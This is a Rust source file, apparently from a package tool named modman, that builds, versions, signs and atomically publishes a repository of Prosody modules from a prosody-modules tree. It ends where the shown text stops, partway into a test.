//! `modman repo build`: a signed repository from a prosody-modules tree.
//!
//! The output is built in a temp dir beside `out` and renamed into place,
//! so a server never serves half a repository. Problems with one module
//! (no main `.lua`, a link out of the tree, an unreadable file, broken
//! front matter) are warnings and that module is skipped or kept without
//! metadata; problems with the whole build are errors.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use super::archive;
use super::index::{
    is_valid_module_name, limits, Change, Dependency, DependencyKind, Earlier, Index, ModuleEntry,
    Timestamp, SCHEMA,
};
use super::metadata;
use super::published::{is_plain_file_name, read_published};
use super::signing;
use super::sources;
use crate::config::is_valid_repository_name;
use crate::parallel;

/// What to build from where.
pub struct BuildOptions<'a> {
    /// A tree in the upstream layout: `mod_x/mod_x.lua`, `mod_x/README.markdown`.
    pub tree: &'a Path,
    pub out: &'a Path,
    /// The repository's name, as modman.toml's `[[repositories]]` entry
    /// names it: signed into the index (see `Index::repository`).
    pub name: &'a str,
    pub key: &'a Path,
    /// Prosody's own module directory, to tell built-in dependencies from
    /// missing ones.
    pub builtin_dir: &'a Path,
    /// How long clients may use the index; rebuild (and publish) before
    /// it runs out.
    pub valid_for: time::Duration,
    /// Earlier builds of each module to keep serving beside the newest,
    /// so admins can choose one (`install x@VERSION`) or step back to it.
    pub keep: usize,
}

/// `--keep` when not given: enough to step back past a bad build or two
/// without the repository growing without end.
pub const DEFAULT_KEEP: usize = 3;

/// `--valid-for` when not given: a month, as Debian's archive does a week
/// for its most active suites; a repository rebuilt by a cron job any
/// less often than that would be refused.
pub const DEFAULT_VALID_DAYS: u32 = 30;

/// What a build did.
#[derive(Debug)]
pub struct BuildReport {
    pub modules: usize,
    /// One line per problem, each starting with the module or file.
    pub warnings: Vec<String>,
}

/// A problem that stops the whole build; nothing was written.
#[derive(Debug, thiserror::Error)]
pub enum BuildError {
    #[error(transparent)]
    Key(#[from] signing::KeyError),
    #[error("{path}: {problem}")]
    Io { path: PathBuf, problem: String },
    #[error("{0}: no modules found (expected mod_x/mod_x.lua directories, as in prosody-modules)")]
    Empty(PathBuf),
    #[error("{0} exists and is not a modman repository; refusing to replace it")]
    NotARepository(PathBuf),
    #[error("repository name `{0}`: use letters, digits, `-` and `_` (at most 64), the name modman.toml's [[repositories]] entry gives it")]
    Name(String),
    #[error("{found} modules, more than the {} an index may hold; nothing was written (split the tree into several repositories)", limits::MODULES)]
    TooManyModules { found: usize },
    #[error("mod_{module}: {problem}; nothing was written")]
    Bounds { module: String, problem: String },
    #[error("--valid-for must be at least 1 day")]
    ValidFor,
    #[error("SOURCE_DATE_EPOCH `{0}` is not a Unix time in seconds")]
    SourceDate(String),
}

pub(super) fn io_error(path: &Path) -> impl Fn(std::io::Error) -> BuildError + '_ {
    move |e| BuildError::Io {
        path: path.to_owned(),
        problem: e.to_string(),
    }
}

/// A module packed, its archive in staging, described, before
/// dependency kinds are known.
struct Packed {
    entry: ModuleEntry,
    depends: Vec<metadata::Declared>,
    /// What its archive was packed from, for the next build.
    sources: sources::Packed,
}

/// Builds the repository. See the module documentation.
pub fn build(options: &BuildOptions) -> Result<BuildReport, BuildError> {
    if options.valid_for < time::Duration::days(1) {
        return Err(BuildError::ValidFor);
    }
    check_name(options.name)?;
    let key = signing::read_private(options.key)?;
    let tree = options.tree;
    let mut names: Vec<String> = std::fs::read_dir(tree)
        .map_err(io_error(tree))?
        .filter_map(|entry| entry.ok())
        .filter(|entry| entry.file_type().is_ok_and(|t| t.is_dir()))
        .filter_map(|entry| {
            entry
                .file_name()
                .to_str()
                .and_then(|n| n.strip_prefix("mod_"))
                .map(str::to_owned)
        })
        .collect();
    names.sort();

    let mut warnings = Vec::new();
    let history = History::detect(tree);
    let record = sources::Record::published(options.out, &key).unwrap_or_else(|problem| {
        warnings.push(problem);
        sources::Record::default()
    });
    let staging = Staging::new(options.out)?;
    let mut packed = Vec::new();
    // Reading, verifying and parsing the published index (a rebuild's
    // 4 MB for 2,000 modules) beside the packing rather than before it:
    // nothing packing does needs it.
    let pack_all = || {
        on_every_core(&names, |name| {
            let module = Module {
                tree,
                name,
                history: &history,
            };
            module.pack(&record, &staging)
        })
    };
    let (packs, before) = parallel::beside(pack_all, || published(options.out, &key));
    tracing::debug!("repo build: {} modules packed", names.len());
    for (name, result) in names.iter().zip(packs) {
        match result {
            Ok((module, module_warnings)) => {
                warnings.extend(
                    module_warnings
                        .into_iter()
                        .map(|w| format!("mod_{name}: {w}")),
                );
                packed.push(module);
            }
            Err(Unpacked::Skipped(problem)) => {
                warnings.push(format!("mod_{name}: {problem}; skipped"))
            }
            Err(Unpacked::Stopped(error)) => return Err(error),
        }
    }
    if packed.is_empty() {
        return Err(BuildError::Empty(tree.to_owned()));
    }

    let kept = on_every_core(&packed, |module| {
        let old = before
            .as_ref()
            .and_then(|index| index.get(&module.entry.name));
        staging.keep_earlier(old, &module.entry, options.keep)
    });
    for (module, kept) in packed.iter_mut().zip(kept) {
        let entry = &mut module.entry;
        entry.previous = kept?;
        let previous = before.as_ref().and_then(|index| index.get(&entry.name));
        entry.changes = history.changes(tree, &entry.name, &entry.version, previous);
    }

    let community: BTreeSet<String> = packed.iter().map(|p| p.entry.name.clone()).collect();
    for module in &mut packed {
        for metadata::Declared { name, need } in std::mem::take(&mut module.depends) {
            let kind = dependency_kind(&name, &community, options.builtin_dir);
            if kind == DependencyKind::Missing {
                warnings.push(format!(
                    "mod_{}: depends on {name}, which is neither in the tree nor in {}",
                    module.entry.name,
                    options.builtin_dir.display()
                ));
            }
            module
                .entry
                .dependencies
                .push(Dependency { name, kind, need });
        }
    }

    let modules = packed.len();
    let (entries, packed): (Vec<ModuleEntry>, Vec<sources::Packed>) =
        packed.into_iter().map(|p| (p.entry, p.sources)).unzip();
    let sources = || Vec::from(sources::Record::files(&key, packed));
    staging.publish(
        options.name,
        &key,
        options.valid_for,
        entries,
        before,
        sources,
    )?;
    tracing::debug!("repo build: published");
    Ok(BuildReport { modules, warnings })
}

/// Where dependency `name` comes from: the modules on offer (`community`),
/// Prosody itself (`builtin_dir`), or neither.
pub(crate) fn dependency_kind(
    name: &str,
    community: &BTreeSet<String>,
    builtin_dir: &Path,
) -> DependencyKind {
    if community.contains(name) {
        DependencyKind::Community
    } else if crate::repo::placement::has_module(builtin_dir, name) {
        DependencyKind::Builtin
    } else {
        DependencyKind::Missing
    }
}

fn check_name(name: &str) -> Result<(), BuildError> {
    match is_valid_repository_name(name) {
        true => Ok(()),
        false => Err(BuildError::Name(
            crate::clean::clean(name).chars().take(64).collect(),
        )),
    }
}

/// Writes a signed repository `name` of `modules` (sorted by name, each
/// entry with its archive's bytes) at `out`, serving beside them the
/// earlier builds' `archives` (by path under `archives/`) the entries
/// list: what `repo mirror` read from its server. See
/// [`Staging::publish`]; `before` is what [`published`] found at `out`.
pub(crate) fn publish(
    out: &Path,
    name: &str,
    key: &ed25519_dalek::SigningKey,
    valid_for: time::Duration,
    modules: Vec<(ModuleEntry, Vec<u8>)>,
    archives: Vec<(String, Vec<u8>)>,
    before: Option<Index>,
) -> Result<(), BuildError> {
    check_name(name)?;
    let staging = Staging::new(out)?;
    for (path, archive) in archives {
        // Only archives this command names: one file under archives/.
        let plain = path
            .strip_prefix("archives/")
            .is_some_and(is_plain_file_name);
        if !plain {
            return Err(BuildError::Bounds {
                module: path,
                problem: "an earlier build's archive must be one file under archives/".into(),
            });
        }
        staging.place(&path, &archive)?;
    }
    // Each module's archive apart from the others': on every core.
    let placed = on_every_core(&modules, |(entry, archive)| {
        staging.place(&entry.archive, archive)
    });
    placed.into_iter().collect::<Result<(), _>>()?;
    let entries = modules.into_iter().map(|(entry, _)| entry).collect();
    staging.publish(name, key, valid_for, entries, before, Vec::new)
}

/// A repository being built: a temp dir beside the one published at
/// `out` (on the same file system, so that it goes into place with a
/// rename), which archives are placed in as they are packed.
pub(crate) struct Staging {
    dir: tempfile::TempDir,
    out: PathBuf,
}

impl Staging {
    pub(crate) fn new(out: &Path) -> Result<Staging, BuildError> {
        let dir = staging_dir(out)?;
        let archives = dir.path().join("archives");
        std::fs::create_dir(&archives).map_err(io_error(&archives))?;
        Ok(Staging {
            dir,
            out: out.to_owned(),
        })
    }

    pub(crate) fn path(&self) -> &Path {
        self.dir.path()
    }

    /// Puts the archive `bytes` at `relative` (a plain path under
    /// `archives/`). Where the repository published at `out` already
    /// serves those very bytes at that path (an earlier build kept, or
    /// a build by a modman that kept no record of sources), the file is
    /// linked rather than written: a rebuild then allocates no file for
    /// what did not change, and on a busy file system creating 2,000
    /// files cost several times what packing them did. What is linked is
    /// read back through the link and compared, so the index never lists
    /// bytes it did not pack (an archive tampered with since is written
    /// anew).
    pub(crate) fn place(&self, relative: &str, bytes: &[u8]) -> Result<(), BuildError> {
        let target = self.path().join(relative);
        if std::fs::hard_link(self.out.join(relative), &target).is_ok() {
            if read_published(&target, bytes.len() as u64).is_ok_and(|held| held == bytes) {
                return Ok(());
            }
            std::fs::remove_file(&target).map_err(io_error(&target))?;
        }
        create_file(&target, bytes).map_err(io_error(&target))
    }

    /// Links the archive published at `from` to `to` if it is `size`
    /// bytes with SHA-256 `sha256`, read through the new link (the file
    /// that will be served); `false`, and nothing linked, if it is gone,
    /// is not a plain file or holds other bytes.
    fn adopt(&self, from: &str, to: &str, sha256: &str, size: u64) -> Result<bool, BuildError> {
        let target = self.path().join(to);
        if std::fs::hard_link(self.out.join(from), &target).is_err() {
            return Ok(false);
        }
        let held = read_published(&target, size);
        if held.is_ok_and(|bytes| bytes.len() as u64 == size && super::sha256_hex(&bytes) == sha256)
        {
            return Ok(true);
        }
        std::fs::remove_file(&target).map_err(io_error(&target))?;
        Ok(false)
    }

    /// The earlier builds of `entry` to list, newest first, at most
    /// `keep`: the build `old` was (the module's entry in the index
    /// published at `out`), if it differs, then those it listed. Each
    /// archive is placed from `out`; one that is gone or no longer
    /// matches its SHA-256 is no longer offered.
    fn keep_earlier(
        &self,
        old: Option<&ModuleEntry>,
        entry: &ModuleEntry,
        keep: usize,
    ) -> Result<Vec<Earlier>, BuildError> {
        let Some(old) = old else {
            return Ok(vec![]);
        };
        let mut kept: Vec<Earlier> = Vec::new();
        for earlier in std::iter::once(old.as_earlier()).chain(old.previous.iter().cloned()) {
            if kept.len() >= keep {
                break;
            }
            // Only archives this command names: one file under archives/.
            let plain = earlier
                .archive
                .strip_prefix("archives/")
                .is_some_and(is_plain_file_name);
            let clash = earlier.version == entry.version
                || earlier.archive == entry.archive
                || kept
                    .iter()
                    .any(|k| k.version == earlier.version || k.archive == earlier.archive);
            if !plain || clash {
                continue;
            }
            let (path, sha256) = (&earlier.archive, &earlier.sha256);
            if self.adopt(path, path, sha256, earlier.size)? {
                kept.push(earlier);
            }
        }
        Ok(kept)
    }

    /// Signs and publishes `modules` (sorted by name, their archives
    /// placed) as repository `name`, with a serial above the last one
    /// and an expiry `valid_for` from now: the staged directory is
    /// renamed into place (see [`replace_dir`]). An index clients would
    /// refuse (over [`limits`]) is not published. `before` is what
    /// [`published`] found at `out`: the caller has read it already,
    /// and reading, verifying and parsing a 2,000-module index again
    /// cost a rebuild some 5% of its time. The files `also` makes (the
    /// signed record of sources) are published with it, made on another
    /// core while the index is serialised and signed: 3.4 ms of the 18
    /// that follow packing 2,000 modules.
    pub(crate) fn publish(
        self,
        name: &str,
        key: &ed25519_dalek::SigningKey,
        valid_for: time::Duration,
        modules: Vec<ModuleEntry>,
        before: Option<Index>,
        also: impl FnOnce() -> Vec<(&'static str, Vec<u8>)> + Send,
    ) -> Result<(), BuildError> {
        let index = || self.write_index(name, key, valid_for, modules, before);
        let (index, also) = parallel::beside(index, also);
        index?;
        for (file, bytes) in also {
            let path = self.path().join(file);
            std::fs::write(&path, bytes).map_err(io_error(&path))?;
        }
        replace_dir(self.dir, &self.out)
    }

    /// Writes the signed index of `modules` into the staged directory.
    fn write_index(
        &self,
        name: &str,
        key: &ed25519_dalek::SigningKey,
        valid_for: time::Duration,
        modules: Vec<ModuleEntry>,
        before: Option<Index>,
    ) -> Result<(), BuildError> {
        check_name(name)?;
        if modules.len() > limits::MODULES {
            return Err(BuildError::TooManyModules {
                found: modules.len(),
            });
        }
        if let Some((entry, problem)) = modules
            .iter()
            .find_map(|entry| entry.check_bounds().err().map(|p| (entry, p)))
        {
            return Err(BuildError::Bounds {
                module: entry.name.clone(),
                problem,
            });
        }
        let (generated, clock) = build_time()?;
        let index = Index {
            schema: SCHEMA,
            repository: name.to_owned(),
            serial: match &before {
                Some(index) => index.serial.saturating_add(1).max(micros(clock)),
                None => next_serial(&self.out, clock),
            },
            generated,
            expires: Timestamp(generated.0 + valid_for),
            modules,
            // Kept from build to build: they concern versions installed out
            // there, whatever the tree holds now.
            advisories: before.map_or_else(Vec::new, |index| index.advisories),
        }
        .to_json();
        tracing::debug!("repo build: index serialised");
        // Signed (two SHA-512 passes over some 4 MB for 2,000 modules)
        // while it is written.
        let index_path = self.path().join("index.json");
        let write = || std::fs::write(&index_path, &index).map_err(io_error(&index_path));
        let (written, signature) = parallel::beside(write, || signing::sign(key, &index));
        written?;
        let signature_path = self.path().join("index.json.sig");
        std::fs::write(&signature_path, signature).map_err(io_error(&signature_path))?;
        tracing::debug!("repo build: index signed");
        Ok(())
    }
}

/// The index already published at `out`, when this key signed it:
/// where the earlier builds to keep are listed.
pub(crate) fn published(out: &Path, key: &ed25519_dalek::SigningKey) -> Option<Index> {
    let index = read_published(&out.join("index.json"), super::fetch::MAX_INDEX).ok()?;
    let signature = read_published(&out.join("index.json.sig"), 1024).ok()?;
    signing::verify(&key.verifying_key(), &index, &signature).ok()?;
    Index::parse(&index).ok()
}

/// Writes `bytes` as the new file `path`, made nameless in its directory
/// (`O_TMPFILE`) and given its name once written. Creating a file by
/// name holds the directory's lock while the file system finds it an
/// inode, and ext4 without a journal, in a block group where files were
/// deleted in the last minutes, passes over each of those inodes one by
/// one: on a machine shared by test runs that delete thousands of
/// files, a first build of 2,000 modules took up to 1.5 s to create its
/// archives, the second worker spinning on the lock meanwhile. Made
/// apart, the inodes are found in parallel and only the names are added
/// under the lock: a test program creating 2,000 files from two threads
/// in that state took 0.4-0.7 s instead of 0.7-1.5 s. Where the file
/// system or `/proc` offers no such file, an ordinary create.
fn create_file(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    use std::io::Write;
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::io::AsRawFd;
    let dir = path.parent().unwrap_or(Path::new("."));
    let nameless = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_TMPFILE)
        .open(dir);
    let Ok(mut file) = nameless else {
        return std::fs::write(path, bytes);
    };
    file.write_all(bytes)?;
    let (Ok(from), Ok(to)) = (
        std::ffi::CString::new(format!("/proc/self/fd/{}", file.as_raw_fd())),
        std::ffi::CString::new(path.as_os_str().as_bytes()),
    ) else {
        return std::fs::write(path, bytes);
    };
    // SAFETY: both are valid NUL-terminated paths that outlive the call,
    // and `file`, which `from` names, is open until after it.
    let linked = unsafe {
        libc::linkat(
            libc::AT_FDCWD,
            from.as_ptr(),
            libc::AT_FDCWD,
            to.as_ptr(),
            libc::AT_SYMLINK_FOLLOW,
        )
    };
    match linked {
        0 => Ok(()),
        _ => match std::io::Error::last_os_error() {
            // No /proc to name the file by: an ordinary create.
            e if e.kind() == std::io::ErrorKind::NotFound => std::fs::write(path, bytes),
            e => Err(e),
        },
    }
}

/// The index's generation time (to the second) and the clock its serial
/// starts from (to the microsecond): now, or `SOURCE_DATE_EPOCH` for both
/// if set, so that two builds of one tree can be byte-identical, as
/// reproducible builds expect.
pub(super) fn build_time() -> Result<(Timestamp, time::OffsetDateTime), BuildError> {
    match std::env::var("SOURCE_DATE_EPOCH") {
        Ok(text) => text
            .trim()
            .parse::<i64>()
            .ok()
            .and_then(|seconds| time::OffsetDateTime::from_unix_timestamp(seconds).ok())
            .map(|time| (Timestamp(time), time))
            .ok_or(BuildError::SourceDate(text)),
        Err(_) => {
            let now = time::OffsetDateTime::now_utc();
            Ok((Timestamp::to_the_second(now), now))
        }
    }
}

/// A serial above the one `out` holds now, and at least `clock` in
/// microseconds since 1970: two builds within one second (into the same
/// directory or not) get different serials, where seconds gave the same
/// one and every modman refused the second index as a replay. Serials of
/// earlier builds (seconds) are far below, so they still move forward.
pub(super) fn next_serial(out: &Path, clock: time::OffsetDateTime) -> u64 {
    #[derive(serde::Deserialize)]
    struct SerialOnly {
        serial: u64,
    }
    let previous = std::fs::read(out.join("index.json"))
        .ok()
        .and_then(|bytes| serde_json::from_slice::<SerialOnly>(&bytes).ok())
        .map_or(0, |index| index.serial);
    previous.saturating_add(1).max(micros(clock))
}

/// `clock` in microseconds since 1970, where serials start from.
fn micros(clock: time::OffsetDateTime) -> u64 {
    u64::try_from(clock.unix_timestamp_nanos() / 1_000).unwrap_or(0)
}

/// One module of the tree being built.
struct Module<'a> {
    tree: &'a Path,
    name: &'a str,
    history: &'a History,
}

/// Why a module was not packed.
enum Unpacked {
    /// It is left out of the repository, for this reason.
    Skipped(String),
    /// The whole build stops.
    Stopped(BuildError),
}

impl From<String> for Unpacked {
    fn from(problem: String) -> Unpacked {
        Unpacked::Skipped(problem)
    }
}

impl From<BuildError> for Unpacked {
    fn from(error: BuildError) -> Unpacked {
        Unpacked::Stopped(error)
    }
}

impl Module<'_> {
    /// Packs the module into `staging` and describes it, with warnings.
    /// The archive is the one the published repository serves when
    /// `record` says it was packed from this very tar stream and the
    /// file still holds what it says (see [`sources`]), else compressed
    /// now.
    fn pack(
        &self,
        record: &sources::Record,
        staging: &Staging,
    ) -> Result<(Packed, Vec<String>), Unpacked> {
        let (tree, name) = (self.tree, self.name);
        if !is_valid_module_name(name) {
            return Err("not a valid module name".to_owned().into());
        }
        let dir = tree.join(format!("mod_{name}"));
        let laid_out = archive::lay_out(&dir, tree, name).map_err(|e| e.to_string())?;
        // Only the layouts that live inside the module's own directory.
        let [nested, flat, ..] = crate::repo::placement::module_file_candidates(name);
        let in_dir = |candidate: &str| candidate.split_once('/').map(|(_, file)| file.to_owned());
        if !(laid_out.files.iter()).any(|file| {
            Some(file) == in_dir(&flat).as_ref() || Some(file) == in_dir(&nested).as_ref()
        }) {
            return Err(format!("neither {flat} nor {nested} in it").into());
        }
        // Read back what is packed: the archive checks itself, and the
        // Lua files are scanned as shipped.
        let contents = archive::read_tar(&laid_out.tar, name).map_err(|e| e.to_string())?;
        let (mut entry, depends, mut warnings) = describe(name, &contents, laid_out.files);
        let sources = super::sha256_hex(&laid_out.tar);
        let mut placed = false;
        if let Some(published) = record.find(&sources) {
            self.stamp(
                &mut entry,
                &published.sha256,
                published.size,
                laid_out.newest,
            )?;
            placed = staging.adopt(
                &published.archive,
                &entry.archive,
                &published.sha256,
                published.size,
            )?;
            if !placed {
                warnings.push(format!(
                    "{} is not the archive the signed record of sources lists (gone, changed or not a plain file); packed anew",
                    published.archive
                ));
            }
        }
        if !placed {
            let bytes = archive::compress(&laid_out.tar).map_err(io_error(&dir))?;
            let sha256 = super::sha256_hex(&bytes);
            self.stamp(&mut entry, &sha256, bytes.len() as u64, laid_out.newest)?;
            staging.place(&entry.archive, &bytes)?;
        }
        let sources = sources::Packed {
            sources,
            archive: entry.archive.clone(),
            sha256: entry.sha256.clone(),
            size: entry.size,
        };
        let packed = Packed {
            entry,
            depends,
            sources,
        };
        Ok((packed, warnings))
    }

    /// Gives `entry` its archive (`sha256`, `size`), the version that
    /// archive makes (with `newest`, the time of its newest file) and its
    /// path; `Err` if it can not be dated or is over the index's limits,
    /// which clients would refuse.
    fn stamp(
        &self,
        entry: &mut ModuleEntry,
        sha256: &str,
        size: u64,
        newest: i64,
    ) -> Result<(), String> {
        let version = self
            .history
            .version(self.tree, self.name, newest, sha256)
            .map_err(|e| format!("cannot date it: {e}"))?;
        entry.archive = format!("archives/mod_{}-{version}.tar.gz", self.name);
        entry.version = version;
        entry.sha256 = sha256.to_owned();
        entry.size = size;
        entry.check_bounds()
    }
}

/// What module `name`'s files (`contents`, `files` their paths) say of
/// it: its entry, but for its archive and version; the modules it
/// declares it depends on; and warnings about its README.
fn describe(
    name: &str,
    contents: &[archive::ArchiveFile],
    files: Vec<String>,
) -> (ModuleEntry, Vec<metadata::Declared>, Vec<String>) {
    let mut depends: Vec<metadata::Declared> = contents
        .iter()
        .filter(|f| f.path.ends_with(".lua"))
        .flat_map(|f| metadata::depends(&text(&f.data)))
        .filter(|d| d.name != name)
        .collect();
    // One entry per name; required in any file wins.
    depends.sort();
    depends.dedup_by(|later, first| later.name == first.name);

    // Prosody reads the headers of the file it loads: the main one.
    let headers = contents
        .iter()
        .find(|f| f.path == format!("mod_{name}.lua") || f.path == format!("{name}/mod_{name}.lua"))
        .map(|f| metadata::headers(&text(&f.data)))
        .unwrap_or_default();
    let readme_file = contents
        .iter()
        .find(|f| matches!(f.path.as_str(), "README.markdown" | "README.md"));
    let (readme, warning) = match readme_file {
        Some(file) => metadata::parse_readme(&text(&file.data)),
        None => (
            metadata::Readme::default(),
            Some("no README.markdown; summary and description left empty".into()),
        ),
    };
    let mut entry = ModuleEntry {
        name: name.to_owned(),
        // Given with the archive (`Module::stamp`).
        archive: String::new(),
        version: String::new(),
        summary: readme.summary,
        labels: readme.labels,
        stage: readme.stage,
        description: readme.description,
        dependencies: vec![],
        compatibility: readme.compatibility,
        headers,
        size: 0,
        sha256: String::new(),
        files,
        // A tree in the prosody-modules layout holds modules only.
        library: None,
        // Read from the history once every module is packed.
        changes: vec![],
        // Listed once the archive is placed.
        previous: vec![],
        listed: vec![],
    };
    // Copied as they are, an ESC or NUL from a README would break every
    // reply that carries it, or reach an admin's terminal.
    let cleaned = entry.clean_text();
    let warning = match (cleaned, warning) {
        (false, warning) => warning,
        (true, warning) => Some(
            warning
                .into_iter()
                .chain(["control characters in its README replaced with U+FFFD".to_owned()])
                .collect::<Vec<_>>()
                .join("; "),
        ),
    };
    (entry, depends, warning.into_iter().collect())
}

/// A file's text, invalid UTF-8 replaced: checked by `from_utf8`, which
/// strides over ASCII, before the slower lossy reading that only a file
/// with invalid bytes needs.
fn text(data: &[u8]) -> std::borrow::Cow<'_, str> {
    match std::str::from_utf8(data) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(data),
    }
}

/// `work` done on every item of `items`, on every core, the results
/// in the items' order: packing a module and placing its archive are
/// CPU and file-system work apart from every other module's. Workers
/// take the next item as they finish one, so a large module does not
/// hold the rest.
fn on_every_core<T: Sync, R: Send>(items: &[T], work: impl Fn(&T) -> R + Sync) -> Vec<R> {
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    parallel::each(items, cores, work)
}

/// Where versions come from: the checkout's history, or the files.
enum History {
    Git,
    Mercurial,
    Files,
}

impl History {
    fn detect(tree: &Path) -> History {
        if tree.join(".git").exists() {
            History::Git
        } else if tree.join(".hg").exists() {
            History::Mercurial
        } else {
            History::Files
        }
    }

    /// `YYYYMMDD.<id>`: the date of the module's last change, then the
    /// commit that made it (checkouts) or the start of the archive's hash.
    /// Dates order versions for people; the id tells equal dates apart.
    /// `newest` is the time of the module's newest file, `sha256` its
    /// archive's.
    fn version(
        &self,
        tree: &Path,
        name: &str,
        newest: i64,
        sha256: &str,
    ) -> Result<String, String> {
        let module = format!("mod_{name}");
        let module = module.as_str();
        let from_vcs = |program: &str, args: &[&str]| -> Result<Option<(i64, String)>, String> {
            let output = Command::new(program)
                .args(args)
                .current_dir(tree)
                .output()
                .map_err(|e| format!("{program} did not run: {e}"))?;
            let text = String::from_utf8_lossy(&output.stdout);
            let mut parts = text.split_whitespace();
            Ok(
                match (parts.next().and_then(|t| t.parse().ok()), parts.next()) {
                    (Some(time), Some(id)) if output.status.success() => {
                        Some((time, id.to_owned()))
                    }
                    _ => None,
                },
            )
        };
        let found = match self {
            History::Git => from_vcs("git", &["log", "-1", "--format=%ct %h", "--", module])?,
            History::Mercurial => from_vcs(
                "hg",
                &[
                    "log",
                    "-l",
                    "1",
                    "--template",
                    "{date|hgdate} {node|short}",
                    module,
                ],
            )?
            .map(|(time, rest)| {
                (
                    time,
                    rest.split_whitespace()
                        .last()
                        .unwrap_or_default()
                        .to_owned(),
                )
            }),
            History::Files => None,
        };
        let (time, id) = match found {
            Some(found) => found,
            // Not in the history (new, untracked) or no checkout: the
            // newest file and the content hash.
            None => (newest, sha256[..8].to_owned()),
        };
        let date = time::OffsetDateTime::from_unix_timestamp(time)
            .map_err(|e| e.to_string())?
            .date();
        Ok(format!(
            "{:04}{:02}{:02}.{id}",
            date.year(),
            date.month() as u8,
            date.day()
        ))
    }
}

impl History {
    /// The change log of module `name` at `version`: the commits that
    /// touched it since the previous build's version (`previous`), newest
    /// first, then what that build recorded, at most [`limits::CHANGES`].
    /// The same version keeps the log it had; without a previous build,
    /// or a history to read, there is none. Commits the history no longer
    /// knows (rewritten) are left out rather than guessed.
    fn changes(
        &self,
        tree: &Path,
        name: &str,
        version: &str,
        previous: Option<&ModuleEntry>,
    ) -> Vec<Change> {
        let Some(previous) = previous else {
            return vec![];
        };
        if previous.version == version {
            return previous.changes.clone();
        }
        let since = previous.version.split_once('.').map_or("", |(_, id)| id);
        let module = format!("mod_{name}");
        let limit = limits::CHANGES.to_string();
        // Fields apart by US (0x1f), which no commit line holds.
        let (program, args): (&str, Vec<String>) = match self {
            History::Git => (
                "git",
                vec![
                    "log".into(),
                    "-n".into(),
                    limit,
                    "--format=%h%x1f%ct%x1f%s".into(),
                    format!("{since}..HEAD"),
                    "--".into(),
                    module,
                ],
            ),
            History::Mercurial => (
                "hg",
                vec![
                    "log".into(),
                    "-l".into(),
                    limit,
                    "--template".into(),
                    "{node|short}\x1f{date|hgdate}\x1f{desc|firstline}\n".into(),
                    "-r".into(),
                    format!("reverse({since}::. - {since})"),
                    module,
                ],
            ),
            History::Files => return vec![],
        };
        // Only a commit id goes on the command line.
        if since.is_empty() || !since.bytes().all(|b| b.is_ascii_hexdigit()) {
            return vec![];
        }
        let output = Command::new(program).args(&args).current_dir(tree).output();
        let Some(output) = output.ok().filter(|o| o.status.success()) else {
            return vec![];
        };
        let text = String::from_utf8_lossy(&output.stdout);
        let mut changes: Vec<Change> = text
            .lines()
            .filter_map(|line| {
                let mut fields = line.splitn(3, '\u{1f}');
                let (id, time, summary) = (fields.next()?, fields.next()?, fields.next()?);
                let seconds: i64 = time.split_whitespace().next()?.parse().ok()?;
                let date = time::OffsetDateTime::from_unix_timestamp(seconds).ok()?;
                let mut summary: String = summary.to_owned();
                if summary.len() > limits::SHORT_TEXT {
                    let mut end = limits::SHORT_TEXT - 3;
                    while !summary.is_char_boundary(end) {
                        end -= 1;
                    }
                    summary.truncate(end);
                    summary.push('…');
                }
                Some(Change {
                    id: id.chars().take(40).collect(),
                    date: Timestamp(date),
                    summary,
                })
            })
            .collect();
        for earlier in &previous.changes {
            if !changes.iter().any(|c| c.id == earlier.id) {
                changes.push(earlier.clone());
            }
        }
        changes.truncate(limits::CHANGES);
        changes
    }
}

/// A temp dir beside `out`, on the same file system so the final rename
/// is atomic.
pub(super) fn staging_dir(out: &Path) -> Result<tempfile::TempDir, BuildError> {
    let parent = match out.parent() {
        Some(p) if !p.as_os_str().is_empty() => p,
        _ => Path::new("."),
    };
    std::fs::create_dir_all(parent).map_err(io_error(parent))?;
    tempfile::Builder::new()
        .prefix(".modman-repo-")
        .tempdir_in(parent)
        .map_err(io_error(parent))
}

/// Puts `staging` at `out`, readable by a web server. An existing `out`
/// is replaced only if it is empty or a previous repository; if the swap
/// fails half-way, the previous repository is put back.
pub(super) fn replace_dir(staging: tempfile::TempDir, out: &Path) -> Result<(), BuildError> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(staging.path(), std::fs::Permissions::from_mode(0o755))
        .map_err(io_error(staging.path()))?;
    if !out.exists() {
        return std::fs::rename(staging.keep(), out).map_err(io_error(out));
    }
    let is_repo = out.join("index.json").is_file();
    let is_empty = std::fs::read_dir(out)
        .map_err(io_error(out))?
        .next()
        .is_none();
    if !is_repo && !is_empty {
        return Err(BuildError::NotARepository(out.to_owned()));
    }
    let parent = staging.path().parent().unwrap_or(Path::new(".")).to_owned();
    let old = tempfile::Builder::new()
        .prefix(".modman-repo-old-")
        .tempdir_in(&parent)
        .map_err(io_error(&parent))?;
    let old_repo = old.path().join("repo");
    std::fs::rename(out, &old_repo).map_err(io_error(out))?;
    if let Err(e) = std::fs::rename(staging.path(), out) {
        // Put the previous repository back; `staging` cleans itself up.
        let _ = std::fs::rename(&old_repo, out);
        return Err(io_error(out)(e));
    }
    // `staging` now names nothing; `old` removes the previous repository.
    let _ = staging.keep();
    Ok(())
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// What a test builds with, in `dir`: a new key at `dir/key`, the
    /// output at `dir/repo`.
    pub(crate) struct TestBuild {
        pub key: PathBuf,
        pub out: PathBuf,
        pub builtin: PathBuf,
    }

    impl TestBuild {
        pub(crate) fn new(dir: &Path) -> TestBuild {
            let key = dir.join("key");
            signing::generate(&key).unwrap();
            TestBuild {
                key,
                out: dir.join("repo"),
                builtin: dir.to_owned(),
            }
        }

        /// `tree` built into `out` as `local`, valid for a day.
        pub(crate) fn options<'a>(&'a self, tree: &'a Path) -> BuildOptions<'a> {
            BuildOptions {
                tree,
                out: &self.out,
                name: "local",
                key: &self.key,
                builtin_dir: &self.builtin,
                valid_for: time::Duration::days(1),
                keep: DEFAULT_KEEP,
            }
        }
    }

    #[test]
    fn serials_differ_within_a_second_and_stay_above_the_one_in_out() {
        let out = tempfile::tempdir().unwrap();
        let second = time::OffsetDateTime::from_unix_timestamp(1_793_491_200).unwrap();
